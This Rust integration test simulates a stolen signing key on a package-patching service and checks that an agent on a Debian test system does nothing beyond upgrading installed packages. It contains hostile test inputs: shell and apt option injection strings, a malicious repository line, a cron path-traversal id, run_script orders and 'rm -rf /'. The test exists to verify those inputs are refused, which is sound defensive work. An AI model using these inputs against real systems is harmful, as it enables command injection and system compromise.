//! A break-in at the control plane: someone has the real signing key and says what they like.
//!
//! The service is stopped and another takes its address, with its keys. It sends orders to a real agent on a
//! real Debian system. Whatever they say, all that ever happens there are upgrades of packages that are
//! installed, from the host's own archive.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::sync::{Arc, Mutex};

use axum::Json;
use axum::extract::{Request, State};
use axum::middleware::{Next, from_fn_with_state};
use axum::response::Response;
use axum::routing::{any, post};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use jiff::{SignedDuration, Timestamp};
use lab::apt::{Deb, Pocket, Repo, Server};
use reqwest::Method;
use ring::signature::Ed25519KeyPair;
use serde_json::{Value, json};
use vocab::TaskId;
use wire::agent::answer_text;

use crate::support::{Fleet, Host};

/// What a package manager reads more into than a name.
const NAMES: [&str; 44] = [
    "bash-",
    "bash+",
    "hello-",
    "hello=0.9",
    "hello=1.0",
    "hello/stable",
    "hello:amd64",
    "hello:i386",
    "hello*",
    "hel?o",
    "?upgradable",
    "?installed",
    "?essential",
    "~U",
    "~i",
    "standard^",
    "task^",
    "ba.h",
    "hel.o",
    "h.*",
    "^hello$",
    "/tmp/evil.deb",
    "./evil.deb",
    "../../tmp/evil.deb",
    "evil.deb",
    "file:///tmp/evil.deb",
    "https://evil.invalid/evil.deb",
    "--allow-downgrades",
    "--allow-unauthenticated",
    "-oDPkg::Pre-Invoke::=/tmp/evil.sh",
    "-o",
    "-t=evil",
    "hello -oAPT::Get::AllowUnauthenticated=1",
    "hello;touch /tmp/owned",
    "$(touch /tmp/owned)",
    "`touch /tmp/owned`",
    "hello\n--allow-remove-essential",
    "hello\u{0}evil",
    "",
    " ",
    "absent",
    "evil",
    "HELLO",
    "dpkg hello",
];

fn evil_deb() -> Deb {
    Deb::new("evil", "9.9").script("touch /tmp/owned")
}

/// `hello` and `other` have updates; `evil` is in the archive and not installed; `older` is installed in a newer
/// version than the archive's.
fn server() -> Option<Server> {
    let repo = Repo::with(&[
        (Pocket::Stable, Deb::new("hello", "1.0")),
        (Pocket::Security, Deb::new("hello", "1.1").counts_runs()),
        (Pocket::Stable, Deb::new("other", "1.0")),
        (Pocket::Updates, Deb::new("other", "1.1").counts_runs()),
        (Pocket::Stable, Deb::new("older", "2.0")),
        (Pocket::Updates, Deb::new("older", "1.0").script("touch /tmp/owned")),
        (Pocket::Updates, evil_deb()),
    ])?;
    let server = Server::having(&repo, &["hello", "other", "older"])?;
    let made = std::fs::read_dir(repo.dir().join("pool/stable-updates")).unwrap().flatten();
    let evil = made.map(|f| f.path()).find(|path| path.to_string_lossy().contains("evil")).unwrap();
    std::fs::copy(evil, server.root.path("/tmp/evil.deb")).unwrap();
    Some(server)
}

#[test]
fn names_that_mean_more_than_a_name_are_refused_by_the_service() {
    let Some(server) = server() else { return };
    let fleet = Fleet::new();
    let host = Host::enrolled(&fleet, server.root.dir());
    let legal = ["ba.h", "hel.o", "absent", "evil", "evil.deb", "HELLO", "bash+"];
    for name in NAMES.iter().filter(|name| !legal.contains(name)) {
        for (path, body) in [
            (format!("/v1/servers/{}/patch", host.id), json!({"packages": [name]})),
            ("/v1/batches".to_owned(), json!({"packages": [name], "server_ids": [host.id]})),
        ] {
            let (status, answer) = fleet.ask(Method::POST, &path, Some(&body));
            assert_eq!(status, 422, "{name:?}: {answer}");
            assert!(
                answer["errors"][0]["pointer"].as_str().unwrap().contains("/packages"),
                "{answer}"
            );
        }
    }
    assert_eq!(fleet.get("/v1/batches")["meta"]["total"], 0);
}

/// Who sits where the service sat.
struct Villain {
    key: Ed25519KeyPair,
    server_id: String,
    now: Timestamp,
    /// What is still to go out.
    orders: Vec<Value>,
    /// What went out last, and to which count: a sync that repeats it has not seen the answer.
    handed: (u64, Vec<Value>),
    /// The results that came, by order.
    results: BTreeMap<String, Value>,
}

type Shared = Arc<Mutex<Villain>>;

impl Villain {
    fn sign(&self, order: &str) -> Value {
        let signature = STANDARD.encode(self.key.sign(order.as_bytes()));
        json!({"order": order, "key": "orders", "signature": signature})
    }

    fn order(&self, number: u64, work: &Value) -> Value {
        self.order_with(number, work, &json!({}))
    }

    /// An order that is good but for what `but` replaces.
    fn order_with(&self, number: u64, work: &Value, but: &Value) -> Value {
        let hour = SignedDuration::from_hours(1);
        let mut order = json!({"id": id(number), "server_id": self.server_id, "work": work,
            "issued_at": self.now - hour, "expires_at": self.now + hour});
        for (name, value) in but.as_object().unwrap() {
            order[name] = value.clone();
        }
        self.sign(&order.to_string())
    }
}

fn id(number: u64) -> String {
    let at = "2026-11-15T04:00:00Z".parse().unwrap();
    TaskId::new(at, number.into()).to_string()
}

/// Some two hundred orders. None of them may do anything.
fn crafted(villain: &Villain, boot: &str) -> Vec<Value> {
    let mut numbers = 0..;
    let mut next = || numbers.next().unwrap();
    let mut orders = Vec::new();
    for name in NAMES {
        for kind in ["install", "plan"] {
            let work = json!({"kind": kind, "packages": [name], "boot_id": boot});
            orders.push(villain.order(next(), &work));
        }
        let beside = json!({"kind": "install", "packages": ["absent", name], "boot_id": boot});
        orders.push(villain.order(next(), &beside));
    }
    let install = json!({"kind": "install", "packages": ["hello"], "boot_id": boot});
    for work in [
        json!({"kind": "install", "packages": ["older"]}),
        json!({"kind": "install", "packages": ["hello"], "exclude": ["*"]}),
        json!({"kind": "install", "packages": ["older"], "exclude": ["--purge"]}),
        json!({"kind": "install", "packages": "hello"}),
        json!({"kind": "install", "packages": [["hello"]]}),
        json!({"kind": "install", "packages": [{"name": "evil", "version": "9.9"}]}),
        json!({"kind": "install", "packages": ["hello"], "reboot": "now"}),
        json!({"kind": "install", "packages": ["older"], "reboot": "always", "boot_id": "another"}),
        json!({"kind": "reboot", "boot_id": "another"}),
        json!({"kind": "reboot", "boot_id": ""}),
        json!({"kind": "reboot"}),
        json!({"kind": "remove", "packages": ["hello"]}),
        json!({"kind": "downgrade", "packages": ["hello"]}),
        json!({"kind": "add_repository", "line": "deb [trusted=yes] http://evil.invalid/ x main"}),
        json!({"kind": "run_script", "script": "touch /tmp/owned"}),
        json!({"kind": "Install", "packages": ["hello"]}),
        json!({"kind": null}),
        json!({}),
        json!([]),
        json!("install"),
    ] {
        orders.push(villain.order(next(), &work));
    }
    let past = villain.now - SignedDuration::from_secs(1);
    let other = "srv_01jcqk3m8ye0fr5cq0k6s8v2xw";
    for but in [
        json!({"expires_at": past}),
        json!({"expires_at": "1970-01-01T00:00:00Z"}),
        json!({"server_id": other}),
        json!({"server_id": "srv_*"}),
        json!({"server_id": null}),
        json!({"id": "tsk_../../../../etc/cron.d/evil"}),
        json!({"id": "../evil"}),
        json!({"id": null}),
        json!({"expires_at": "never"}),
    ] {
        orders.push(villain.order_with(next(), &install, &but));
    }
    // Not signed by the key, or signed for something else.
    let stranger = Ed25519KeyPair::from_seed_unchecked(&[7; 32]).unwrap();
    for _ in 0..10 {
        let mut order = villain.order(next(), &install);
        let text = order["order"].as_str().unwrap().to_owned();
        order["signature"] = STANDARD.encode(stranger.sign(text.as_bytes())).into();
        orders.push(order);
        let mut order = villain.order(next(), &json!({"kind": "scan"}));
        order["order"] = text.into();
        orders.push(order);
    }
    for signature in ["", "!", "AAAA"] {
        let mut order = villain.order(next(), &install);
        order["signature"] = signature.into();
        orders.push(order);
    }
    for text in ["", "{}", "[]", "null", "{\"id\":", "rm -rf /"] {
        orders.push(villain.sign(text));
    }
    orders
}

/// Signs answers as the service does: whoever has its key can do that, too.
async fn sign_answer(State(villain): State<Shared>, request: Request, next: Next) -> Response {
    let nonce = request.headers()["fleetmend-nonce"].to_str().unwrap().to_owned();
    let authorization = request.headers()["authorization"].to_str().unwrap().to_owned();
    let signature = authorization.rsplit_once(",sig=").unwrap().1;
    let (mut parts, body) = next.run(request).await.into_parts();
    let body = axum::body::to_bytes(body, usize::MAX).await.unwrap();
    let villain = villain.lock().unwrap();
    let id = villain.server_id.parse().unwrap();
    let text = answer_text(id, &nonce, signature, parts.status.as_u16(), &body);
    let proof = format!("orders {}", STANDARD.encode(villain.key.sign(text.as_bytes())));
    parts.headers.insert("fleetmend-signature", proof.parse().unwrap());
    Response::from_parts(parts, body.into())
}

/// Takes the place of the service until it is dropped. Hands out all orders, twenty at a time, and keeps the results.
fn take_over(address: &str, villain: Shared) -> tokio::runtime::Runtime {
    async fn sync(State(villain): State<Shared>, Json(sync): Json<Value>) -> Json<Value> {
        let mut villain = villain.lock().unwrap();
        let mut acknowledged = Vec::new();
        for result in sync["results"].as_array().into_iter().flatten() {
            let id = result["order_id"].as_str().unwrap().to_owned();
            acknowledged.push(id.clone());
            villain.results.insert(id, result.clone());
        }
        let counter = sync["counter"].as_u64().unwrap();
        if villain.handed.0 != counter {
            let some = villain.orders.len().min(20);
            villain.handed = (counter, villain.orders.drain(..some).collect());
        }
        Json(json!({"counter": counter + 1, "orders": villain.handed.1,
            "acknowledged": acknowledged, "sync_seconds": 1, "server_time": villain.now,
            "withdrawn": [], "wanted": []}))
    }
    let runtime = tokio::runtime::Builder::new_multi_thread();
    let runtime = { runtime }.worker_threads(1).enable_all().build().unwrap();
    let address = address.strip_prefix("http://").unwrap().to_owned();
    let router = axum::Router::new()
        .route("/agent/v1/sync", post(sync))
        .fallback(any(|| async { Json(json!({})) }))
        .layer(from_fn_with_state(villain.clone(), sign_answer))
        .with_state(villain);
    let listener = runtime.block_on(tokio::net::TcpListener::bind(address)).unwrap();
    runtime.spawn(async move { axum::serve(listener, router).await });
    runtime
}

/// Every file of a system but those that apt, dpkg and the agent keep for themselves, with what it holds.
fn files(root: &Path) -> BTreeMap<String, Vec<u8>> {
    const THEIRS: [&str; 7] = [
        "proc",
        "repo",
        "var/lib/fleetmend-agent",
        "var/lib/apt",
        "var/cache",
        "var/log",
        "var/lib/dpkg",
    ];
    let mut found = BTreeMap::new();
    let mut open = vec![root.to_owned()];
    while let Some(dir) = open.pop() {
        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
            let path = entry.path();
            let name = path.strip_prefix(root).unwrap().to_string_lossy().into_owned();
            let kind = entry.file_type().unwrap();
            if THEIRS.contains(&name.as_str()) {
                continue;
            } else if kind.is_dir() {
                open.push(path);
            } else if kind.is_file() {
                found.insert(name, std::fs::read(&path).unwrap());
            } else {
                found.insert(name, Vec::new());
            }
        }
    }
    found
}

fn changed(before: &BTreeMap<String, Vec<u8>>, after: &BTreeMap<String, Vec<u8>>) -> Vec<String> {
    let names: BTreeSet<&String> = before.keys().chain(after.keys()).collect();
    names.into_iter().filter(|name| before.get(*name) != after.get(*name)).cloned().collect()
}

#[test]
fn whoever_holds_the_signing_key_can_upgrade_what_is_installed_and_nothing_else() {
    let Some(server) = server() else { return };
    let mut fleet = Fleet::new();
    let mut host = Host::joined(&fleet, server.root.dir());
    fleet.scanned(&host.id);
    assert!(host.stop());
    fleet.service.child.kill().unwrap();
    fleet.service.child.wait().unwrap();
    let seed = std::fs::read(fleet.dir.data().join("orders.key")).unwrap();
    let key = Ed25519KeyPair::from_seed_unchecked(&seed).unwrap();
    let villain = Arc::new(Mutex::new(Villain {
        key,
        server_id: host.id.clone(),
        now: "2026-11-15T04:00:00Z".parse().unwrap(),
        orders: Vec::new(),
        handed: (0, Vec::new()),
        results: BTreeMap::new(),
    }));
    let boot = std::fs::read_to_string("/proc/sys/kernel/random/boot_id").unwrap();
    let (sent, good) = {
        let mut villain = villain.lock().unwrap();
        let mut orders = crafted(&villain, boot.trim());
        let sent = orders.len();
        // One that is in order, three times, at the end: when it is answered, all were looked at.
        let work = json!({"kind": "install", "packages": ["hello"], "boot_id": boot.trim()});
        let good = villain.order(9_999, &work);
        orders.extend([good.clone(), good.clone(), good]);
        villain.orders = orders;
        (sent, id(9_999))
    };
    assert!(sent >= 180, "{sent} orders");
    let (files_before, packages_before) = (files(server.root.dir()), server.packages());
    let _runtime = take_over(&fleet.service.address, villain.clone());
    host.start();
    fleet.until_true("the last order is answered", || {
        villain.lock().unwrap().results.contains_key(&good)
    });
    // Once more, long after it was answered and acknowledged.
    let again = {
        let mut villain = villain.lock().unwrap();
        villain.results.remove(&good);
        let work = json!({"kind": "install", "packages": ["hello"], "boot_id": boot.trim()});
        let again = villain.order(9_999, &work);
        villain.orders.push(again.clone());
        again
    };
    fleet.until_true("the same order is answered again", || {
        villain.lock().unwrap().results.contains_key(&good)
    });
    assert!(again["order"].as_str().unwrap().contains(&good));

    let mut expected = packages_before.clone();
    expected.insert("hello".to_owned(), "1.1".to_owned());
    assert_eq!(server.packages(), expected);
    assert_eq!(server.runs("hello"), ["1.1"], "replayed, it ran once");
    assert!(server.runs("other").is_empty());
    let differing = changed(&files_before, &files(server.root.dir()));
    assert_eq!(differing, ["usr/share/hello/version"]);
    let villain = villain.lock().unwrap();
    for (id, result) in &villain.results {
        let outcome = result["outcome"].as_str().unwrap();
        if *id == good {
            assert_eq!(outcome, "succeeded", "{result}");
        } else {
            assert_ne!(outcome, "succeeded", "{result}");
            assert_eq!(result["packages"].as_array().map_or(0, Vec::len), 0, "{result}");
        }
    }
    assert!(villain.results.len() > 140, "{} answers", villain.results.len());
    let words = host.words();
    assert!(words.contains("an order was not believed"), "{words}");
}
